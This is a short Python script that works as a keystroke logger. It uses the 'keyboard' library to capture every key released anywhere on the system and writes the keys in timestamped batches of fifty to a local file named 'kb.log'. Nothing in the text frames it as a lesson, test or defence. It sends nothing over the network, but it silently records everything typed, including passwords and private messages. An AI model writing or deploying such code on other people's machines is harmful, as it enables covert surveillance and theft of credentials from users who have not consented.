import keyboard
import datetime

buffer = []

def on_key(event):
    buffer.append(event.name)
    if len(buffer) >= 50:
        with open("kb.log", "a") as fh:
            fh.write(f"{datetime.datetime.now()} {' '.join(buffer)}\n")
        buffer.clear()

keyboard.on_release(on_key)
keyboard.wait()
